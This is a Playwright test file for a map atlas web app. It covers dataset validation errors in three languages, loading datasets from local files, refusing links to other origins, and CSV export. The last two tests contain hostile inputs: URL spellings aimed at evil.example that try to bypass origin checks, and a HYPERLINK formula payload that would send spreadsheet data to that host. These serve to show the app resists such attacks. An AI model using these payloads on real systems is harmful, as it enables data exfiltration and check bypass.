// A dataset other than the forum's: opened by link or from a file, checked with the same schema,
// and any problem named by record and field instead of a blank page.
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { rawBuiltAtlas } from '../fixtures/builtAtlas';
import { expect, test } from './atlasPage';

test('a malformed dataset from a link shows each problem with its record and field', async ({ atlas, page }) => {
  const broken = rawBuiltAtlas();
  const feature = broken.projects.features[3]!;
  delete (feature.properties as Partial<typeof feature.properties>).sector;
  const figure = broken.groups[0]!.figures[0]!;
  figure.quote = `${figure.quote}（虚构）`;
  await page.route('**/data/broken.json', (route) => route.fulfill({ json: broken }));
  await atlas.open('lang=en&data=data/broken.json');
  const alert = page.getByRole('alert');
  await expect(alert).toContainText('data/broken.json is not a valid atlas');
  await expect(alert).toContainText(`projects.features[3].properties.sector`);
  await expect(alert).toContainText(`[project ${feature.id}]`);
  await atlas.screenshot('dataset-invalid');
  await page.getByRole('button', { name: 'Back to the forum dataset' }).click();
  await atlas.waitForMap();
  expect(atlas.searchParams().get('data')).toBeNull();
});

test('a malformed dataset is explained in Russian and Chinese, with field paths and records as written', async ({ atlas, page }) => {
  const broken = rawBuiltAtlas();
  const feature = broken.projects.features[3]!;
  delete (feature.properties as Partial<typeof feature.properties>).sector;
  await page.route('**/data/broken.json', (route) => route.fulfill({ json: broken }));
  await atlas.open('lang=ru&data=data/broken.json');
  const alert = page.getByRole('alert');
  await expect(alert).toContainText('data/broken.json — недопустимый атлас');
  await expect(alert).toContainText(`projects.features[3].properties.sector: Недопустимый вариант: ожидается одно из`);
  await expect(alert).toContainText(`[project ${feature.id}]`);
  await atlas.screenshot('dataset-invalid-ru');
  await page.getByRole('combobox').last().selectOption('zh');
  await expect(alert).toContainText('data/broken.json 不是有效的图志数据');
  await expect(alert).toContainText(`projects.features[3].properties.sector: 选项无效`);
});

test('a dataset file picked from the computer replaces the map, list and filters', async ({ atlas, page }) => {
  const smaller = rawBuiltAtlas();
  smaller.projects.features = smaller.projects.features.filter((feature) => feature.properties.countries.includes('UZ'));
  const kept = new Set(smaller.projects.features.map((feature) => feature.id));
  smaller.groups = smaller.groups.filter((group) => group.members.every((member) => kept.has(member)));
  for (const feature of smaller.projects.features) {
    feature.properties.groups = feature.properties.groups.filter((id) => smaller.groups.some((group) => group.id === id));
  }
  await atlas.open('lang=en');
  await atlas.waitForMap();
  await page.getByLabel('Open a dataset…').setInputFiles({
    name: 'uzbekistan.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(smaller)),
  });
  await expect(page.getByRole('status').filter({ hasText: 'uzbekistan.json' })).toBeVisible();
  await atlas.waitForMap();
  await expect(page.getByTestId('map')).toHaveAttribute('data-project-count', String(smaller.projects.features.length));
  await expect(page.locator('#project-list li')).toHaveCount(smaller.projects.features.length);
});

/** Links to another origin, as a crafted link would spell them (the query string's encoding). */
const OTHER_ORIGIN_LINKS = [
  { query: 'https%3A%2F%2Fexample.com%2Fatlas.json', value: 'https://example.com/atlas.json' },
  { query: '%5C%5Cevil.example/a.json', value: '\\\\evil.example/a.json' },
  { query: '/%5Cevil.example/a.json', value: '/\\evil.example/a.json' },
  { query: '%09//evil.example/a.json', value: '\t//evil.example/a.json' },
];

test('a dataset link to another origin is refused with a notice, however it is spelled, and nothing is requested from there', async ({ atlas, page }) => {
  for (const { query, value } of OTHER_ORIGIN_LINKS) {
    await atlas.open(`lang=en&data=${query}`);
    const alert = page.getByRole('alert');
    await expect(alert).toContainText('Only datasets on this site can be opened');
    await expect(alert).toContainText(value.trim());
    expect(atlas.foreignRequests, `requests to another origin after data=${query}`).toEqual([]);
  }
  await page.getByRole('button', { name: 'Back to the forum dataset' }).click();
  await atlas.waitForMap();
  expect(atlas.searchParams().get('data')).toBeNull();
});

test('a dropped dataset whose project name would run as a formula exports it to CSV as plain text', async ({ atlas, page }) => {
  const crafted = rawBuiltAtlas();
  const shelek = crafted.projects.features.find((feature) => feature.id === 'shelek-wind-60')!;
  // papaparse's escapeFormulae alone misses a cell that starts with = and runs over several lines.
  const name = '=HYPERLINK("https://evil.example/?d="&A1,"Open")\nShelek 60 MW wind farm';
  shelek.properties.name.en = name;
  await atlas.open('lang=en');
  await atlas.waitForMap();
  await page.getByLabel('Open a dataset…').setInputFiles({ name: 'formula.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(crafted)) });
  await expect(page.getByRole('status').filter({ hasText: 'formula.json' })).toBeVisible();
  await atlas.waitForMap();
  await page.getByRole('tab', { name: 'Statistics' }).click();
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'CSV (one row per figure)' }).click();
  const download = await downloading;
  const csv = readFileSync(await download.path(), 'utf8');
  const rows = Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;
  const row = rows.find((candidate) => candidate.project_id === 'shelek-wind-60');
  expect(row?.name_en).toBe(`'${name}`);
});
